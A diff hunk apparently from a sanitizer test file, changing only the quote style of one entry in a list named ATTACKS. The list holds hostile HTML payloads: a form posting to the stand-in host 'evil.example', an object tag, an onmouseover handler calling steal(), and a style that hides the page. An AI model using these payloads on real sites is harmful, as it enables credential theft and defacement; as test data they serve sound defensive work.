@@ -20,7 +20,7 @@ ATTACKS = [
     '<form action="https://evil.example"><input name=p></form>',
     '<object data="x.swf"></object>',
     '<p onmouseover="steal()">hover</p>',
-    '<style>body{display:none}</style>',
+    "<style>body{display:none}</style>",
 ]
 
 
